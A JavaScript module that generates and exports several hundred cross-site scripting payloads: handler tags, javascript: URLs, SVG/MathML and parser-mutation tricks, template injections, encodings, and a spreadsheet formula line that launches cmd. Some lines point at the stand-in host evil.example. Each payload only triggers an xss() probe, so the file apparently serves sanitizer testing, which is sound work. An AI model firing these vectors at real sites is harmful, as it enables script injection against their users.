// More than three hundred ways of making a page run what was meant to be read. Written by combination: what would run, in what
// it is wrapped, how it is spelled.
//
// Whatever runs calls `xss()` or asks for `/xss-probe`, so a page that is fooled says so.

const CALLS = ['xss()', 'top.xss()', "self['x'+'ss']()", 'xss``', "(0,eval)('xss()')", "fetch('/xss-probe')", "import('/xss-probe')", "setTimeout('xss()')"];

/** Elements that load, focus, toggle, move or play by themselves, and the handler that notices. */
const SELF_ACTING = [
  ['img src=/xss-probe', 'onerror'], ['img src=data:, srcset=/xss-probe', 'onerror'], ['image src=/xss-probe', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'], ['video src=/xss-probe', 'onerror'], ['video><source', 'onerror'], ['audio src=/xss-probe', 'onerror'], ['input autofocus', 'onfocus'],
  ['input type=image src=/xss-probe', 'onerror'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'], ['marquee', 'onstart'], ['object data=/xss-probe', 'onerror'], ['embed src=/xss-probe', 'onload'], ['link rel=stylesheet href=/xss-probe', 'onerror'],
  ['script src=/xss-probe', 'onerror'], ['style', 'onload'], ['div style=animation:x', 'onanimationstart'], ['div style=width:9999px;height:9999px;position:fixed', 'onpointerenter'],
  ['x-y tabindex=1 autofocus', 'onfocus'], ['dialog open', 'onfocusin'], ['math><mi tabindex=1 autofocus', 'onfocus'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><image href=/xss-probe', 'onerror'],
];

/** How a tag with a handler can be spelled. */
const SPELLINGS = [
  (tag, on, run) => `<${tag} ${on}=${run}>`,
  (tag, on, run) => `<${tag} ${on}="${run}">`,
  (tag, on, run) => `<${tag.toUpperCase()} ${on.replace(/^on/, 'oN')}='${run.replaceAll("'", '&#39;')}'>`,
  (tag, on, run) => `<${tag.replaceAll(' ', '/')}/${on}=${run}//`,
  (tag, on, run) => `"><${tag} ${on}=${[...run].map((c) => `&#${c.codePointAt(0)};`).join('')}>`,
];

const URLS = [
  'javascript:xss()', 'JaVaScRiPt:xss()', 'java&#9;script:xss()', '&#106;avascript:xss()', ' javascript:xss()', 'javascript&colon;xss()', 'javascript:/*--></title></style>*/xss()', 'javascript://%0axss()',
  'data:text/html,<script>top.xss()</script>', 'data:text/html;base64,PHNjcmlwdD50b3AueHNzKCk8L3NjcmlwdD4=', 'vbscript:xss()', 'feed:javascript:xss()', 'view-source:javascript:xss()', '//evil.example/xss-probe',
];

const URL_HOLDERS = [
  (u) => `<a href="${u}">x</a>`, (u) => `<iframe src="${u}"></iframe>`, (u) => `<form action="${u}"><input type=submit>`, (u) => `<button formaction="${u}">x</button>`, (u) => `<object data="${u}"></object>`,
  (u) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`, (u) => `<math href="${u}">x</math>`, (u) => `[x](${u})`,
];

const SVG_AND_MATHML = [
  '<svg><script>xss()</script></svg>', '<svg><script href=/xss-probe></script></svg>', '<svg><script xlink:href="data:,xss()"/></svg>', '<svg><style><img src=/xss-probe onerror=xss()></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x"/></svg>', '<svg><a><animate attributeName=href values=javascript:xss() /><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=xss()></svg>', '<svg><foreignObject><img src=/xss-probe onerror=xss()></foreignObject></svg>', '<svg><desc><![CDATA[</desc><script>xss()</script>]]></svg>',
  '<svg><title><style><img src=/xss-probe onerror=xss()></style></title></svg>', '<math><annotation-xml encoding=text/html><img src=/xss-probe onerror=xss()></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/xss-probe onerror=xss()&gt;">', '<math><mi//xlink:href="data:x,<script>xss()</script>">', '<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>',
];

const TEMPLATES = [
  '${xss()}', '`${xss()}`', '{{xss()}}', "{{constructor.constructor('xss()')()}}", "{{$on.constructor('xss()')()}}", '{{{xss()}}}', '{%raw%}{{xss()}}{%endraw%}', '<%= xss() %>', '<%- xss() %>', '#{xss()}', '*{xss()}',
  '[[${xss()}]]', '[(${xss()})]', '@(xss())', '$(xss())', '{xss()}', '<template><script>xss()</script></template>', '<slot onslotchange=xss()>', '<div v-html="xss()">', '<div ng-init="xss()" ng-app>', '<div x-data x-init="xss()">',
  '<div data-bind="value: xss()">', '{"__html":"<img src=/xss-probe onerror=xss()>"}', '{"dangerouslySetInnerHTML":{"__html":"<script>xss()</script>"}}', '=HYPERLINK("javascript:xss()")', "=cmd|' /C calc'!A0",
];

/** Ends what a careless page may have put the text into, and begins something else. */
const ESCAPES = ['"', "'", '`', '-->', ']]>', '</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</template>', '</select>', '</iframe>', '*/', '\\"', "\\'", '&quot;>', '\u2028', '%22%3E', '\\u0022\\u003e'];
const AFTER = ['<script>xss()</script>', '<img src=/xss-probe onerror=xss()>', ' autofocus onfocus=xss() x=', ';xss();//'];

const ENCODED = [
  '&lt;script&gt;xss()&lt;/script&gt;', '&amp;lt;img src=/xss-probe onerror=xss()&amp;gt;', '%3Cscript%3Exss()%3C/script%3E', '%253Cscript%253Exss()%253C/script%253E', '\\x3cscript\\x3exss()\\x3c/script\\x3e',
  '\\u003cimg src=/xss-probe onerror=xss()\\u003e', '\uff1cscript\uff1exss()\uff1c/script\uff1e', '+ADw-script+AD4-xss()+ADw-/script+AD4-', '<scr<script>ipt>xss()</scr</script>ipt>', '<script\u2028>xss()</script>', '<\u200bscript>xss()</script>',
  '<sc\u00adript>xss()</sc\u00adript>', '<script/x>xss()</script >', '<script>xss()', '<<script>xss()//<</script>', '<script>\u202e)(ssx</script>', '\ufeff<script>xss()</script>', '&#x3C;img src&#x3D;/xss-probe onerror&#x3D;xss()&#x3E;',
];

/** Harmless as written, and something else once a parser has put it right. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=/xss-probe onerror=xss()>">', '<svg></p><style><a id="</style><img src=/xss-probe onerror=xss()>">', '<form><math><mtext></form><form><mglyph><style></math><img src=/xss-probe onerror=xss()>',
  '<listing>&lt;img src=/xss-probe onerror=xss()&gt;</listing>', '<xmp><p title="</xmp><img src=/xss-probe onerror=xss()>">', '<plaintext><img src=/xss-probe onerror=xss()>', '<table><td><svg><desc><td><img src=/xss-probe onerror=xss()>',
  '<select><style><img src=/xss-probe onerror=xss()></style></select>', '<p><svg><title><p><style><img src=/xss-probe onerror=xss()></style>', '<a id=location href=javascript:xss()>', '<img name=getElementById><form id=document>', '<input name=attributes><form id=x>',
  '<meta http-equiv=refresh content="0;url=/xss-probe">', '<base href=//evil.example/>', '<link rel=import href=/xss-probe>', '<link rel=prefetch href=/xss-probe>', '<iframe srcdoc="&lt;script&gt;top.xss()&lt;/script&gt;">',
  "<style>@import'/xss-probe'</style>", '<style>*{background:url(/xss-probe)}</style>', '<div style="background:url(/xss-probe)">', '<div style="width:expression(xss())">', '<table background=/xss-probe>', '<a ping=/xss-probe href=#>x</a>', '<portal src=/xss-probe>',
  '![x](/xss-probe)', '![x](/xss-probe"onerror="xss())', '<javascript:xss()>', 'http://evil.example/"onmouseover="xss()', 'https://evil.example/<script>xss()</script>', 'www.evil.example"><img src=/xss-probe onerror=xss()>', 'mailto:a@b"onclick="xss()',
  '<!--><img src=/xss-probe onerror=xss()>', '<!--[if gte IE 4]><script>xss()</script><![endif]-->', '<?xml-stylesheet href="javascript:xss()"?>', '<!ENTITY x SYSTEM "/xss-probe">', '<?php xss() ?>', '<%00script>xss()</script>',
];

function* all() {
  for (const [i, [tag, on]] of SELF_ACTING.entries()) for (const [j, spell] of SPELLINGS.entries()) yield spell(tag, on, CALLS[(i + 3 * j) % CALLS.length]);
  for (const [i, url] of URLS.entries()) for (const k of [0, 3, 5]) yield URL_HOLDERS[(i + k) % URL_HOLDERS.length](url);
  for (const [i, end] of ESCAPES.entries()) for (const k of [0, 1]) yield end + AFTER[(i + k) % AFTER.length];
  yield* SVG_AND_MATHML;
  yield* TEMPLATES;
  yield* ENCODED;
  yield* MUTATIONS;
}

/** Each once; none is longer than the shortest field that takes a sentence. */
export const vectors = [...new Set(all())];

/** The vectors in as few texts as fit into `most` characters each, a line a vector. */
export function packed(list, most) {
  const texts = [];
  for (const v of list) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + v.length <= most) texts[texts.length - 1] = `${last}\n${v}`;
    else texts.push(v);
  }
  return texts;
}
